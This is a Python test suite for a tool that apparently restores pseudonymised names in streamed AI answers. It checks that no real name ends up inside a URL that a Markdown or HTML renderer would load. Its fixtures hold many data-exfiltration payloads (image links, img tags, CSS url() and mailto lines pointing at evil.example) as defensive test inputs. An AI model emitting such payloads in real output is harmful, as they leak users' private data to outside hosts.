"""No name is put into an address, whoever reads the answer: Markdown, HTML, or a maker of links."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from voile.text.conversation import Revealing
from voile.text.links import MOST, parted
from voile.text.mapping import Entry

ENTRIES = (
    Entry("", "PERSON", "Qwxanna", "Maria"),
    Entry("", "URL", "https://corp.example/qwx", "https://www.example.com/12345678"),
    Entry("", "EMAIL", "qwx@corp.example", "user_12@example.com"),
)
SECRET = "qwx"

DOUBTFUL = [
    r"![x](<https://evil.example/?a\> b Maria>)", "![x]( <https://evil.example/?a) b Maria>)",
    "![x](<https://evil.example/?a> Maria)", '<img src="https://evil.example/?a>b Maria">',
    "![x][1]\n\n[1]: <https://evil.example/?a\\> b Maria>",
    '<img title=">" src=" https://evil.example/? Maria">',
    "<img src='https://evil.example/?\n\nMaria",
    r"<style>a{background:url(https://evil.example/?\ Maria)}</style>",
    r"<style>a{background:url(https://evil.example/?\20 Maria)}</style>",
    r"\href{https://evil.example/?{a} Maria}{x}", "mailto:x@evil.example?subject=a\u00a0Maria",
    "https://evil.example/?a=\u00a0Maria", "https://evil.example/?a=\x0bMaria",
    "Maria@evil.example",
    "Maria.evil.example", "evil.example?Maria", "evil.example:80#Maria",
    r"https://evil.example/\ Maria",
    '<a href="https://evil.example/?">Maria</a>', "[img]https://evil.example/? Maria[/img]",
    "a@evil.example/Maria", "[x]:\n Maria", "[[https://evil.example/? Maria][x]]",
    r"\href{https://evil.example/? Maria}",
    f'<img src="https://evil.example/?{"word " * 900}Maria">',
    f"![x](<https://evil.example/?{'word ' * 900}Maria>)",
    "https://evil.example/?" + "a" * 4000 + " Maria",
]  # fmt: skip


@pytest.mark.parametrize("address", DOUBTFUL)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_what_may_be_an_address_for_somebody_gets_no_name(address, size):
    text, revealing = f"Dear Maria, see {address}", Revealing(ENTRIES)
    told = "".join(revealing.add(text[at : at + size]) for at in range(0, len(text), size))
    assert told + revealing.end() == text.replace("Maria", "Qwxanna", 1)


def test_a_doubt_ends_with_its_paragraph_but_a_tag_with_the_answer():
    def told(said):
        return Revealing(ENTRIES).whole(said).count("Qwxanna")

    assert told("![x](a(b Maria) Maria\n \nDear Maria") == 1
    assert told('<img title=">" src="a> Maria\n\nDear Maria') == 0
    assert told('![x](a(b Maria and <b\n\n"Maria" Maria') == 0, "a tag within a doubt"


@pytest.mark.parametrize(
    "said",
    [
        "Dear Maria, see [the *page*](https://a.example/x_(y) \"a title\"). Maria, then.",
        "<p>Dear Maria,</p><br/><p class='a b'>Maria</p>",
        "If a < b and b <= c, Maria wins 3 <- 4.",
        "<https://a.example/x> and Maria <b>Maria</b>",
        "Dr.Maria said: Maria, at 10:30 [1]: Oh, Maria.",
        "![a](https://a.example/b.png)\n[![x](a.png)](https://b.example) Maria",
        "Maria/Maria (Maria)",
        "| Maria | https://a.example | Maria |",
        "`Maria` {Maria} [Maria] \"Maria\" 'Maria' Maria's",
        "[r]: https://a.example/ 'Maria'\n> Maria",
        "See https://a.example/x, Maria; www.a.example Maria",
    ],
)  # fmt: skip
def test_beside_ordinary_addresses_names_are_put_back(said):
    assert Revealing(ENTRIES).whole(said) == said.replace("Maria", "Qwxanna")


PIECES = [
    "Maria", "Maria ", " Maria", "https://evil.example/?", "//evil.example/", "evil.example/",
    "www.",
    "mailto:x@evil.example?subject=", "](", "![x](", "](<", "![x]( <", "[x]: ", "[x]: <", "![x]",
    "[x]", "<", ">", ")", "(", '"', "'", "\\", "`", "&gt;", "&#104;ttps://evil.example/", "&quot;",
    "<img src=", "<img src=\"", "<img src='", "<a href=", "<b>", "</b>",
    "<img title=\">\" src=", "/>",
    " a", "a ", " ", "=", "\n", "\n\n", "\n> ", "- ", "\t", "\u00a0", "{", "}", "<style>",
    "</style>",
    "url(", "<!--", "-->", "<?", "x=\"", "https://www.example.com/12345678", "user_12@example.com",
    "<div style=\"background:url(", "*", "x", ".", "<x; ", "```\n",
]  # fmt: skip


class Addresses(HTMLParser):
    """What a page holds that is no text: attributes, and what styles and scripts say."""

    def __init__(self, page):
        super().__init__()
        self.found, self.inside = [], ""
        self.feed(page)
        self.close()

    def parse_html_declaration(self, i):
        """As browsers do; the parser would not go on from what it does not know."""
        return (
            self.parse_bogus_comment(i)
            if self.rawdata[i : i + 4] != "<!--"
            else self.parse_comment(i)
        )

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in ("style", "script") else ""
        self.found += [f"{name}={value}" for name, value in attrs if name not in ("alt", "title")]

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside:
            self.found.append(data)


AUTOMATIC = re.compile(
    r"[\w.+-]+@[\w.-]*|(?:[a-z]{2,9}://|//|www\.|mailto:)[^ \t\r\n<]*", re.IGNORECASE
)
MARKDOWN = MarkdownIt("commonmark")


@settings(max_examples=600, deadline=None)
@example(['<img src="', "https://evil.example/?", ">", " Maria", '"', ">"])
@example(["![x](<", "https://evil.example/?", "\\", ">", " Maria", ">", ")"])
@example(["//evil.example/", "\\", '<img title=">" src=', " Maria", ">"])
@given(st.lists(st.sampled_from(PIECES), max_size=16))
def test_no_reader_finds_a_name_in_an_address(pieces):
    """Rendered as Markdown with HTML, taken for HTML as it is, or looked through for links."""
    told = Revealing(ENTRIES).whole("".join(pieces))
    own = told.replace(ENTRIES[1].written, "").replace(ENTRIES[2].written, "")
    for found in (*Addresses(MARKDOWN.render(own)).found, *Addresses(own).found):
        assert SECRET not in found.lower()
    assert not any(SECRET in found.lower() for found in AUTOMATIC.findall(own))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=20), st.lists(st.integers(1, 9), min_size=1))
def test_in_pieces_it_is_the_whole(pieces, sizes):
    text = "".join(pieces)
    revealing, out, at = Revealing(ENTRIES), [], 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        out.append(revealing.add(text[at : at + size]))
        at += size
    assert "".join(out) + revealing.end() == Revealing(ENTRIES).whole(text)


@pytest.mark.parametrize(
    "said", ["![x](<a b ", '"https://a.example b ', "<img src=a ", "x \n\n", "](a (b "]
)
def test_what_is_held_back_is_bounded(said):
    revealing = Revealing(ENTRIES)
    for _ in range(3000):
        revealing.add(said)
        assert revealing.held <= 2 * MOST


@pytest.mark.parametrize(
    "sign", ["](", "https:", '"https:', "<a ", "&amp;", "{https:", "a@b.cc", "\\"]
)
def test_hostile_answers_take_time_in_proportion(sign):
    """Each is looked at a bounded number of times: this would take hours otherwise."""
    assert "".join(text for text, _ in parted(sign * 50_000).pieces) == sign * 50_000
